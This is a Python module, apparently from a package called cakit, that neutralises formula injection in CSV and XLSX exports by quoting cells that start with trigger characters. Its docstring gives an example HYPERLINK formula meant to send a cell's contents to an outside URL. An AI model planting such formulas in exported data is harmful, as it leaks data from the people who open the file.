"""Cells for spreadsheets: the one place that makes CSV and XLSX output safe to open.

A spreadsheet program reads a cell that starts with `=`, `+`, `-` or `@` as a formula
(and a leading tab or carriage return can hide such a start), so a transcript turn such
as `=HYPERLINK("http://…?x="&A1,"click")` would run when a coder opens the export. Every
CSV and XLSX writer in cakit sends its cells through here:

* `neutralise` puts a `'` before a text value that could start a formula (numbers are
  left alone: -0.25 stays a number);
* `restore` undoes it, for reading a sheet cakit wrote back in;
* `csv_text` / `csv_records` write CSV with every cell neutralised and every field that
  holds a line break (carriage return included) quoted, so no row can be split in two;
* `append_row` writes an XLSX row whose text cells are neutralised, stripped of the
  characters a worksheet cannot hold (`cell_text`), and stored as text, never formulas.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TypeVar

#: First characters that make a spreadsheet program read a cell as a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: A value `neutralise` prefixes: a trigger, after any apostrophes (prefixing those too
#: keeps `restore` exact: `'=x` is written `''=x` and read back as `'=x`).
_FORMULA_LIKE = re.compile("'*[=+\\-@\t\r]")
#: What a worksheet cannot hold: C0 controls other than tab, newline and carriage return
#: (openpyxl's ILLEGAL_CHARACTERS_RE), and the code points XML 1.0 forbids besides.
_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
#: Shown in a cell instead of a character the worksheet cannot hold.
PLACEHOLDER = "\ufffd"

Value = TypeVar("Value")


def neutralise(value: Value) -> Value | str:
    """The value as a spreadsheet cell that cannot run as a formula.

    A string starting with `=`, `+`, `-`, `@`, tab or carriage return (or with
    apostrophes and then one of those) gets a `'` in front; anything else, numbers
    included, is returned as it is.
    """
    if isinstance(value, str) and _FORMULA_LIKE.match(value):
        return "'" + value
    return value


def restore(text: str) -> str:
    """The text `neutralise` was given: one leading `'` removed when it guards a trigger."""
    if text.startswith("'") and _FORMULA_LIKE.match(text, 1):
        return text[1:]
    return text


def cell_text(text: str) -> str:
    """The text with every character a worksheet cannot hold replaced by `PLACEHOLDER`."""
    return _ILLEGAL.sub(PLACEHOLDER, text)


class _Records:
    """Where `csv.writer` puts its records; each one ends in `\\n`.

    The writer is given `\\r\\n` as line terminator so that it quotes every field holding
    a carriage return (Python 3.11 quotes only the terminator's characters); the
    terminator itself, always the last two characters of a record, becomes `\\n`.
    """

    def __init__(self) -> None:
        self.lines: list[str] = []

    def write(self, record: str) -> int:
        self.lines.append(record[:-2] + "\n")
        return len(record)


def csv_text(rows: Iterable[Sequence[object]], *, header: Sequence[str] | None = None) -> str:
    """CSV text (one `\\n`-ended line per row, the header first when given) with every
    cell neutralised; None is an empty cell."""
    out = _Records()
    writer = csv.writer(out, lineterminator="\r\n")
    if header is not None:
        writer.writerow([neutralise(name) for name in header])
    for row in rows:
        writer.writerow([neutralise(value) for value in row])
    return "".join(out.lines)


def csv_records(records: Iterable[Mapping[str, object]], columns: Sequence[str], *,
                header: bool = True) -> str:
    """`csv_text` of dict rows in the order of `columns` (a missing key is an empty cell)."""
    rows = ([record.get(name) for name in columns] for record in records)
    return csv_text(rows, header=columns if header else None)


def _xlsx_value(value: object) -> object:
    """A value as `append_row` writes it: text through `cell_text` and `neutralise`, an
    empty text as an empty cell."""
    if isinstance(value, str):
        return neutralise(cell_text(value)) if value else None
    return value


def append_row(sheet: Any, values: Sequence[object]) -> None:
    """Append a row to an openpyxl worksheet: text goes through `cell_text` and
    `neutralise` and is stored as text (data type "s"), never as a formula; an empty
    text is an empty cell."""
    sheet.append([_xlsx_value(v) for v in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


__all__ = ["PLACEHOLDER", "TRIGGERS", "append_row", "cell_text", "csv_records", "csv_text",
           "neutralise", "restore"]
